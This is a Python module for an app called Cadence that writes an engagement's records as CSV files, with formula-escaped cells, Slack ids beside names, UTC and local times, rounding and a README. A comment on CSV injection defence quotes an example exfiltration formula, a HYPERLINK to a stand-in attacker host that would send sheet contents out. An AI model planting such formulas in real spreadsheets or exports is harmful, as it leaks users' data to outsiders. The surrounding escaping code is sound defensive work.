"""The pieces every file of the CSV export is made of: a cell a spreadsheet cannot run, a
person's id with their name beside it, a moment in UTC with the engagement's local time beside
it, a rounded figure, a file's text, and what one export covers (`ExportScope`), so each form
family can write its own files (`form_families.FAMILIES`) the way the export writes the rest.

Names are filled in when the files are written (`Table.render`): Cadence keeps no one's name,
so the export job asks Slack for the names of the people in it, once each, after reading
(`bot/engine/exports.py`); a table holds `NameOf` cells until then."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from datetime import date, datetime
from typing import Any
from zoneinfo import ZoneInfo

from sqlmodel import Session

# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV
# Injection"): `=HYPERLINK("https://evil.example/?d="&A1)` in a summary would send the lead's
# sheet to whoever typed it. Text is written with a leading quote instead; numbers Cadence
# writes itself (a KPI of -5.0) are not text and stay numbers.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# How a computed figure is written (a mean of ratings, a score, a share as a percentage): to
# one decimal, so 4.166666666666667 reads 4.2. Figures people typed (a KPI's value, its
# target) are written as they were given. README_TEXT says so to whoever opens the zip.
DECIMALS = 1


@dataclass(frozen=True)
class NameOf:
    """The cell beside a user id column: the names of `user_ids` (in their order, "; " between
    them), as Slack gave them when the export was written; empty for someone Slack did not
    name."""

    user_ids: tuple[str, ...]

    def render(self, names: Mapping[str, str]) -> str:
        found = [names.get(u, "") for u in self.user_ids]
        return "; ".join(found) if any(found) else ""


@dataclass(frozen=True)
class Table:
    """A CSV file's header and rows, its `NameOf` cells filled in when rendered."""

    header: tuple[str, ...]
    rows: tuple[tuple[object, ...], ...]

    def people(self) -> set[str]:
        return {u for row in self.rows for v in row if isinstance(v, NameOf) for u in v.user_ids}

    def render(self, names: Mapping[str, str]) -> str:
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow([cell(h) for h in self.header])
        writer.writerows(
            [cell(v.render(names) if isinstance(v, NameOf) else v) for v in row]
            for row in self.rows
        )
        return out.getvalue()


@dataclass(frozen=True)
class ExportFile:
    name: str
    rows: int
    table: Table

    @property
    def text(self) -> str:
        """The file without names (as rendered before Slack was asked)."""
        return self.table.render({})


@dataclass(frozen=True)
class ExportScope:
    """One export: the engagement, its range (UTC moments from its own days; None: open),
    the export's moment, and the session to read with."""

    session: Session
    team_id: str
    engagement_id: int
    since: datetime | None
    until: datetime | None
    now: datetime
    tz: str = field(default="UTC")  # the engagement's zone: each moment's `…_local` column

    def at(self, moment: datetime | None) -> list[str]:
        """A moment's two cells: UTC, then the engagement's local time (`at`, `at_local`)."""
        return at(moment, self.tz)

    def within(self, column: Any) -> list[Any]:
        """WHERE clauses keeping `column` inside the range."""
        clauses = []
        if self.since is not None:
            clauses.append(column >= self.since)
        if self.until is not None:
            clauses.append(column < self.until)
        return clauses


def cell(value: object) -> object:
    """`value` as a CSV cell a spreadsheet shows rather than evaluates: text that would start
    a formula gets a leading single quote; the csv module still quotes what needs quoting."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(header: list[str], rows: Iterable[Iterable[object]]) -> Table:
    return Table(tuple(header), tuple(tuple(row) for row in rows))


def when(moment: datetime | None) -> str:
    return moment.isoformat(timespec="seconds") if moment else ""


def local(moment: datetime | None, tz: str) -> str:
    """The moment in the engagement's zone, ISO with its offset (`2026-11-30T09:00:00+01:00`)."""
    return moment.astimezone(ZoneInfo(tz)).isoformat(timespec="seconds") if moment else ""


def at(moment: datetime | None, tz: str) -> list[str]:
    """A moment's two cells: in UTC as stored, and in the engagement's zone."""
    return [when(moment), local(moment, tz)]


def at_columns(*names: str) -> list[str]:
    """The header of moments written by `at`: each name, then its `…_local` beside it."""
    return [c for n in names for c in (n, f"{n}_local")]


def who(user_id: str | None) -> list[object]:
    """A person's two cells: their Slack id, then their name (filled in when written)."""
    return [user_id or "", NameOf((user_id,)) if user_id else ""]


def whose(user_ids: Iterable[str]) -> list[object]:
    """Several people's two cells: their ids with spaces between, then their names."""
    ids = tuple(user_ids)
    return [" ".join(ids), NameOf(ids) if ids else ""]


def who_columns(*names: str) -> list[str]:
    """The header of people written by `who`: each name, then its `…_name` beside it."""
    return [c for n in names for c in (n, f"{n}_name")]


def number(value: float | None) -> object:
    return "" if value is None else value


def rounded(value: float | None) -> object:
    """A computed figure to DECIMALS places (4.166666666666667: 4.2), a whole number as it
    is (a score of 80); empty when none."""
    if value is None:
        return ""
    return value if isinstance(value, int) else round(float(value), DECIMALS)


def share(value: float | None) -> object:
    """A share of 1 as a percentage to DECIMALS places (0.5: 50.0); empty when none."""
    return "" if value is None else round(100 * float(value), DECIMALS)


def day(value: date | None) -> str:
    """A calendar day (the engagement's own), as YYYY-MM-DD; empty when there is none."""
    return value.isoformat() if value else ""


def yes_no(value: bool | None) -> str:
    """A yes/no cell in words (empty: not known), as the deliverables' `on_time` is written."""
    return "" if value is None else ("yes" if value else "no")


README_TEXT = """\
Cadence's export: an engagement's record as CSV files (UTF-8, comma-separated, one header row).

People: each column of Slack user ids (author, owner, actor, ...) has a ..._name column beside
it with the person's name as Slack gave it when the export was written (empty when Slack did
not say); several people in one cell are separated by spaces (ids) and by "; " (names).
Anonymous feedback carries neither.

Times: each moment is written twice, in UTC as stored (e.g. submitted_at) and in the
engagement's own time zone beside it (submitted_at_local), both ISO 8601 with their offset.
Calendar days (due_on, valid_until, ...) are the engagement's own days, YYYY-MM-DD.

Numbers: figures Cadence computes are rounded to one decimal: means of feedback ratings (1-5),
scores (0-100) and shares written as percentages (on_time_percent: 50.0 is half). Figures
people typed (a KPI's value, its target and tolerance) are written as they were given.

Cells: text that a spreadsheet would run as a formula (starting with = + - @) is written with a
leading single quote, so it is shown, never evaluated.
"""
